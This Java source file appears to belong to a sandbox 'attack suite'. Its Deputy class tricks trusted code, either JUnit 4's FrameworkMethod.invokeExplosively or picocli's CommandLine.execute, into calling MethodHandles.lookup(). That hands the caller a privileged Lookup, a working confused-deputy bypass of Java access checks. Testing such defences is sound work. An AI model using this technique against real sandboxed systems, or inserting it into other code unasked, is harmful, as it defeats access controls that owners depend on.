package com.shop;

import java.lang.invoke.MethodHandles;
import java.lang.reflect.Method;

/** Trusted code (granted everything) that calls MethodHandles.lookup() for us, so that the
 * Lookup is on its class (the attack suite's variants replace USE). Every class is looked
 * up at run time, so that this compiles whatever is on the class path. */
final class Deputy {
    /** "junit4": FrameworkMethod.invokeExplosively; "picocli": the console launcher's
     * command line library, running the method as a command (CommandLine.execute). */
    static final String USE = "junit4";

    private Deputy() {}

    static MethodHandles.Lookup lookup() throws Throwable {
        Method lookup = MethodHandles.class.getMethod("lookup");
        if (USE.equals("picocli")) {
            Class<?> line = firstOf("org.junit.platform.console.shadow.picocli.CommandLine",
                    "picocli.CommandLine");
            Class<?> spec = Class.forName(line.getName() + "$Model$CommandSpec");
            Object command = line.getConstructor(Object.class).newInstance(
                    spec.getMethod("forAnnotatedObjectLenient", Object.class).invoke(null, lookup));
            line.getMethod("execute", String[].class).invoke(command, (Object) new String[0]);
            return (MethodHandles.Lookup) line.getMethod("getExecutionResult").invoke(command);
        }
        Class<?> framework = Class.forName("org.junit.runners.model.FrameworkMethod");
        Object deputy = framework.getConstructor(Method.class).newInstance(lookup);
        return (MethodHandles.Lookup) framework
                .getMethod("invokeExplosively", Object.class, Object[].class)
                .invoke(deputy, null, new Object[0]);
    }

    private static Class<?> firstOf(String... names) throws ClassNotFoundException {
        for (String name : names) {
            try {
                return Class.forName(name);
            } catch (ClassNotFoundException absent) {
                // the next one
            }
        }
        throw new ClassNotFoundException(String.join(", ", names));
    }
}
